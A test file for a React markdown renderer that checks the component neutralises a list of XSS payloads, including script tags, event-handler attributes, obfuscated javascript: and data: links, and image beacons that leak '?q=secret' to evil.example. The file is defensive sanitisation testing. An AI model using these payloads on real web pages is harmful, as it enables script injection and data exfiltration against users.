import { render, screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { MarkdownReply as Markdown } from "./markdown-reply";

/** Whatever a model, a tool or a stranger's record writes is text; asserted on the DOM itself. */

const hostile: [name: string, markdown: string][] = [
  ["an image with a handler", "<img src=x onerror=alert(1)>"],
  ["a script", "<script>alert(1)</script>"],
  ["a script in the midst of a line", "before <script>alert(1)</script> after"],
  ["a vector image with a handler", "<svg onload=alert(1)><circle r=9 /></svg>"],
  ["a frame", '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
  ["a style sheet", "<style>* { display: none }</style>"],
  ["a form", '<form action="https://evil.example"><button>Go</button></form>'],
  ["a body with a handler", "<body onload=alert(1)>"],
  ["an open details with a handler", "<details open ontoggle=alert(1)>x</details>"],
  ["a base address", '<base href="https://evil.example/">'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["a template that breaks out", '</div></article><img src=x onerror="alert(1)">'],
  ["a script link", "[a](javascript:alert(1))"],
  ["a script link in mixed case", "[a](JaVaScRiPt:alert(1))"],
  ["a script link behind an entity", "[a](&#x6A;avascript:alert(1))"],
  ["a script link behind a tab", "[a](java&Tab;script:alert(1))"],
  ["a script link behind a line break", "[a](<java&NewLine;script:alert(1)>)"],
  ["a script link behind a control character", "[a](<\u0001javascript:alert(1)>)"],
  ["a script link by reference", "[a][1]\n\n[1]: javascript:alert(1)"],
  ["a script in angle brackets", "<javascript:alert(1)>"],
  ["a data link", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["a data link in HTML", '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ["a vbscript link", "[a](vbscript:msgbox(1))"],
  ["a blob link", "[a](blob:https://evil.example/1)"],
  ["a file link", "[a](file:///etc/passwd)"],
  ["an image beacon", "![x](https://evil.example/?q=secret)"],
  ["an image beacon by reference", "![x][1]\n\n[1]: https://evil.example/?q=secret"],
  ["an image beacon in a link", "[![x](https://evil.example/?q=secret)](https://evil.example)"],
  ["an image of script", "![x](javascript:alert(1))"],
  ["an image of data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["a title that breaks out", '[a](https://evil.example "x\\" onmouseover=alert(1) y")'],
  ["an alternative text that breaks out", '![" onerror="alert(1)](https://evil.example/x)'],
  ["a fence whose language breaks out", '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ["HTML in a table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"],
  ["HTML in a heading", "# <script>alert(1)</script>"],
  ["HTML in a footnote", "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>"],
  ["a comment that hides script", "<!-- --><script>alert(1)</script><!-- -->"],
  ["a line break with a handler", "a<br onclick=alert(1)>b"],
];

const allowed =
  "a blockquote br button code del div em h4 h5 h6 hr li ol p path pre rect section span strong sup svg table tbody td th thead tr ul".split(
    " ",
  );

function expectHarmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll("*")) {
    expect(allowed).toContain(element.localName);
    expect(element.getAttributeNames().filter((name) => /^on/i.test(name))).toEqual([]);
    for (const name of ["src", "srcset", "style", "action", "formaction", "background"]) {
      expect(element).not.toHaveAttribute(name);
    }
  }
  // The one place for an icon is a button of ours.
  for (const svg of root.querySelectorAll("svg")) expect(svg.closest("button")).not.toBeNull();
  for (const link of root.querySelectorAll("a")) {
    expect(link.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:|#)/);
  }
}

describe.each(hostile)("%s", (_, markdown) => {
  it("does nothing when it is whole", () => {
    const { container } = render(<Markdown text={markdown} />);
    expectHarmless(container);
  });

  it("does nothing at any moment while it streams", () => {
    const { container, rerender } = render(<Markdown text="" streaming />);
    for (let end = 1; end <= markdown.length; end += 1) {
      rerender(<Markdown text={markdown.slice(0, end)} streaming />);
      expectHarmless(container);
    }
  });
});

describe("raw HTML", () => {
  it.each([
    "<script>alert(1)</script>",
    "<b>bold</b> and <i>italic</i>",
    "<div>\n<p>text</p>\n</div>",
  ])("is shown as the text it is: %s", (html) => {
    const { container } = render(<Markdown text={html} />);
    expect(container).toHaveTextContent(html.replace(/\n/g, " "), { normalizeWhitespace: true });
  });

  it("breaks a line where a table cell asks for it", () => {
    render(<Markdown text={"| a |\n|---|\n| one<br>two |"} />);
    expect(screen.getByRole("cell").querySelectorAll("br")).toHaveLength(1);
  });
});

describe("an image", () => {
  it("is a link that says what it shows and is never fetched", () => {
    const { container } = render(<Markdown text="![a chart](https://host.example/c.png)" />);
    const link = screen.getByRole("link", { name: /^image: a chart ?\(opens in a new tab\)$/ });
    expect(link).toHaveAttribute("href", "https://host.example/c.png");
    expect(container.querySelector("img")).toBeNull();
  });

  it("inside a link is that link's text, for links do not nest", () => {
    render(<Markdown text="[![a chart](https://a.example/c.png)](https://b.example)" />);
    expect(screen.getAllByRole("link")).toHaveLength(1);
    expect(screen.getByRole("link")).toHaveAttribute("href", "https://b.example");
    expect(screen.getByRole("link")).toHaveTextContent("image: a chart");
  });
});

describe("a link", () => {
  it("opens a tab of its own, says so, and tells the other site nothing", () => {
    render(<Markdown text="[docs](https://docs.example)" />);
    const link = screen.getByRole("link", { name: /^docs ?\(opens in a new tab\)$/ });
    expect(link).toHaveAttribute("target", "_blank");
    expect(link).toHaveAttribute("rel", "noreferrer noopener");
  });

  it.each([
    ["that is empty", "[text]()"],
    ["that is blocked", "[text](javascript:alert(1))"],
    ["into this page", "[text](#somewhere)"],
    ["to a path of this server", "[text](/patient?query=x)"],
    ["without a scheme", "[text](//evil.example)"],
  ])("%s is plain text", (_, markdown) => {
    render(<Markdown text={markdown} />);
    expect(screen.getByText("text").tagName).toBe("SPAN");
    expect(screen.queryByRole("link")).toBeNull();
  });

  it("is made of a bare address", () => {
    render(<Markdown text="see https://docs.example/a" />);
    expect(screen.getByRole("link")).toHaveAttribute("href", "https://docs.example/a");
  });
});
